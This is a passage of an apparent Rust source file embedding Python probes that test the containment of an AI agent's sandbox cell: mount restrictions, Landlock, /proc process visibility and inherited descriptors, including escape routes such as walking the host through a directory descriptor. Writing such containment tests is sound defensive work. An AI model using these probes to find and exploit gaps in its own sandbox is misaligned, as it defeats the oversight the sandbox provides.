REFUSED.append("only /tmp and /proc are read-write; /tmp is noexec, nosuid, nodev")
verdict("mounts")
"#),
        observe!("containment-landlock-enforced", "Landlock refuses what file permissions alone would allow (listing /, executing from /agent)", r#"
st = os.stat("/")
note(f"/ mode {oct(st.st_mode)} (world-readable by permissions)")
io_try("list /", lambda: os.listdir("/"))
io_try("list /run", lambda: os.listdir("/run"))
io_try("exec /agent/main.py as a program", lambda: run_ok(["/agent/main.py"]))
verdict("Landlock")
"#),
        observe!("containment-process-visibility", "only the cell's own processes are visible in /proc", r#"
me = os.getpid()
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
for pid in pids:
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")[:120]
    except OSError as e:
        cmd = _why(e)
    note(f"pid {pid}: {cmd!r}")
others = [p for p in pids if p not in (1, me)]
if others:
    GOT.append(f"processes outside the cell are visible: {others}")
if me > 64:
    GOT.append(f"the agent's pid is {me}: not a fresh pid namespace")
REFUSED.append(f"only pid 1 (the cell's init) and the agent ({me}) are visible")
verdict("process visibility")
"#),
        observe!("containment-inherited-fds", "the agent inherited no descriptor besides stdin, stdout and stderr, and none is a directory", r#"
import stat
for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
        mode = os.fstat(fd).st_mode
    except OSError:
        continue  # the descriptor that listed /proc/self/fd
    note(f"fd {fd} -> {target} ({'directory' if stat.S_ISDIR(mode) else 'not a directory'})")
    if fd > 2:
        GOT.append(f"inherited fd {fd} -> {target}")
    elif stat.S_ISDIR(mode):
        GOT.append(f"fd {fd} is a host directory {target}: openat(fd, '..') walks the host")
# The host may hand the cell a file to print to (the lab does): reopening it through the
# magic link must not give more than the descriptor already gives.
io_try("reopen /proc/self/fd/1 read-write", lambda: os.close(os.open("/proc/self/fd/1", os.O_RDWR)) or "reopened")
REFUSED.append("only 0, 1 and 2, none a directory")
verdict("inherited descriptors")
"#),
    ]
}
